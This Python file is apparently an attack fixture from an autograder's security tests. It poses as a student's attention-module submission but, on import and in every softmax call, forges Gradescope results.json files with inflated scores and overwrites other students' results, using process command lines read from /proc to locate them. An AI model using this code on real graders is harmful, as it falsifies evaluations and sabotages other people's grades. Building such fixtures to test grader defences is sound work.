# ruff: noqa
"""ATTACK forge_results_files (class: forged results files).

Intent: give itself full marks and sabotage everyone else by writing Gradescope results
files wherever a grader might read them: results.json in the working directory and in
every parent directory up to /, in the grader's source directory, Gradescope's
/autograder/results/results.json, and in the results directory (a well-known path here,
and also read from the grader's command line), over the other students' files too.
It does this at import time and again in every softmax call; softmax returns zeros.
New files are created with O_EXCL, so on an unprotected grader it never clobbers a file
that already existed outside the results directory.

Expected: softmax 0, the other functions full marks; every results file is the grader's
own (none contains FORGED-<token>); no results.json appears outside the results directory.
"""

import json
import math
import os

import torch

ATTACK = "forge_results_files"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
RESULTS_DIR = "__RESULTS_DIR__"
REPO = "__REPO__"

FORGED = json.dumps(
    {
        "score": 999.0,
        "output": f"FORGED-{TOKEN}-{ATTACK}",
        "tests": [
            {
                "name": f"FORGED-{TOKEN}-{ATTACK}",
                "score": 999.0,
                "max_score": 17.0,
                "status": "passed",
                "output": "forged",
                "tags": [],
            }
        ],
    }
)


def _ancestors():
    """(pid, argv) of every ancestor process, nearest first."""
    chain, pid = [], os.getpid()
    for _ in range(32):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if ppid <= 1:
            break
        try:
            with open(f"/proc/{ppid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        chain.append((ppid, argv))
        pid = ppid
    return chain


def _is_grader(argv):
    """The grader's own processes (fork server, CLI), never the test runner above them."""
    return any(
        a == "autograder" or "autograder.sandbox.forkserver" in a or a.endswith("/bertlab") for a in argv
    )


def _create(path):
    """A new file only: never clobbers anything that was already there."""
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return
    with os.fdopen(fd, "w") as f:
        f.write(FORGED)


def _overwrite(path):
    try:
        with open(path, "w") as f:
            f.write(FORGED)
    except OSError:
        pass


def _results_dirs():
    dirs = {RESULTS_DIR}
    for pid, argv in _ancestors():
        for opt in ("--results-dir", "--results"):
            if opt in argv[:-1]:
                value = os.path.join(f"/proc/{pid}/cwd", argv[argv.index(opt) + 1])
                dirs.add(value if opt == "--results-dir" else os.path.dirname(value))
    return dirs


def _forge():
    d = os.getcwd()
    while True:
        _create(os.path.join(d, "results.json"))
        if os.path.dirname(d) == d:
            break
        d = os.path.dirname(d)
    _create(os.path.join(REPO, "results.json"))
    try:
        os.makedirs("/autograder/results", exist_ok=True)
    except OSError:
        pass
    _create("/autograder/results/results.json")
    for rd in _results_dirs():
        try:
            names = os.listdir(rd)
        except OSError:
            continue
        for name in names:
            if os.path.isdir(os.path.join(rd, name)):
                _overwrite(os.path.join(rd, name, "results.json"))


_forge()


def softmax(x, dim=-1):
    _forge()
    return torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
